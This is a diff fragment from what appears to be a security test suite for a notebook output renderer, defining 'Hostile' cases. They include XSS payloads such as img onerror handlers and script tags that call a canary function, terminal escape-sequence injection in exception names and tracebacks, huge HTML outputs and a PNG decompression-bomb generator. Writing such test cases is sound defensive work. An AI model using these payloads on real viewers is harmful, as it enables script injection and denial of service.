+        "class E(Exception):\n    def _render_traceback_(self):\n"
+        "        return ['<img src=data:, onerror=hit(`@ID`)>', '\\x1b]0;x\\x07', '\\x9b2J']\n"
+        "raise E('x')",
+    ),
     Hostile("error-huge", "raise ValueError('<b>' * 2_000_000)"),
     Hostile("error-escape-name", r"raise type('\x1b]0;x\x07Name', (Exception,), {})('\x1b[2J')"),
-    Hostile("input-prompt", "try: input('<img src=x:x onerror=hit(`@ID`)>')\nexcept Exception: pass"
-            if False else "print('<img src=x:x onerror=hit(`@ID`)>')"),
+    Hostile(
+        "input-prompt",
+        "try: input('<img src=data:, onerror=hit(`@ID`)>')\nexcept Exception: pass"
+        if False
+        else "print('<img src=data:, onerror=hit(`@ID`)>')",
+    ),
 ]
 
 SIZES = [
@@ -584,18 +782,27 @@ SIZES = [
     _html("many-attributes", "@ATTRIBUTES"),
     _html("wide-table", "@TABLE"),
     _bundle("json-deep", {"application/json": "@DEEP", "text/plain": "x"}),
-    Hostile("html-huge", "from IPython.display import HTML\ndisplay(HTML('<b>x</b>' * 1_000_000"
-            f' + "<script>{HIT}</script>"))'),
-    Hostile("displays-many", "from IPython.display import HTML\nfor n in range(3000):"
-            f' display(HTML("<img src=x:x onerror={HIT}>"))'),
-    Hostile("png-bomb", "import zlib, struct, base64\n"
-            "def chunk(k, d): return struct.pack('>I', len(d)) + k + d + struct.pack('>I',"
-            " zlib.crc32(k + d))\n"
-            "head = struct.pack('>IIBBBBB', 50_000, 50_000, 1, 0, 0, 0, 0)\n"
-            "body = zlib.compress(bytes(6251) * 50_000, 9)\n"
-            "png = b'\\x89PNG\\r\\n\\x1a\\n' + chunk(b'IHDR', head) + chunk(b'IDAT', body)"
-            " + chunk(b'IEND', b'')\n"
-            "display({'image/png': base64.b64encode(png).decode()}, raw=True)"),
+    Hostile(
+        "html-huge",
+        "from IPython.display import HTML\ndisplay(HTML('<b>x</b>' * 100_000"
+        f' + "<script>{HIT}</script>"))',
+    ),
+    Hostile(
+        "displays-many",
+        "from IPython.display import HTML\nfor n in range(3000):"
+        f' display(HTML("<img src=data:, onerror={HIT}>"))',
+    ),
+    Hostile(
+        "png-bomb",
+        "import zlib, struct, base64\n"
+        "def chunk(k, d): return struct.pack('>I', len(d)) + k + d + struct.pack('>I',"
+        " zlib.crc32(k + d))\n"
+        "head = struct.pack('>IIBBBBB', 50_000, 50_000, 1, 0, 0, 0, 0)\n"
+        "body = zlib.compress(bytes(6251) * 50_000, 9)\n"
+        "png = b'\\x89PNG\\r\\n\\x1a\\n' + chunk(b'IHDR', head) + chunk(b'IDAT', body)"
+        " + chunk(b'IEND', b'')\n"
+        "display({'image/png': base64.b64encode(png).decode()}, raw=True)",
+    ),
 ]
 _MADE = {
     "'@NESTED'": f'"<div>" * 200_000 + "<script>{HIT}</script>"',
